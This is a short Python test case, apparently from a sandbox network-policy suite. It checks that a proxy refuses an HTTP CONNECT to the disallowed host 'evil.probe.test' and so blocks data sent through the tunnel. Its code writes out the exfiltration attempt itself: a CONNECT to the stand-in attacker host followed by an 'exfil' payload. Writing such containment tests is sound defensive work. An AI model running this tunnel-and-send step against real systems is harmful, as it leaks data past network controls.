from ._net import ALLOW, PROXY

ID = "net.proxy-connect-denied"
CATEGORY = "network"
DESCRIPTION = "CONNECT to a name the policy does not allow (evil.probe.test), then send the data in the tunnel"
CLAIMS = ("rule:network.mode",)
POLICY = ALLOW
CODE = PROXY + """
t = f"evil.{DOMAIN}:{SINK_PORT}"
line = proxy_send(f"CONNECT {t} HTTP/1.1\\r\\nHost: {t}\\r\\n\\r\\n".encode(),
                  then=("exfil " + DATA + "\\r\\n\\r\\n").encode())
judge_reply(f"CONNECT {t}", line)
"""
CONTROL = {"policy": {"network": {"allow": ["evil.{DOMAIN}:{SINK_PORT}"]}}}
CONTAINED = "the proxy answers 403 to the CONNECT: no tunnel, nothing at the sink"
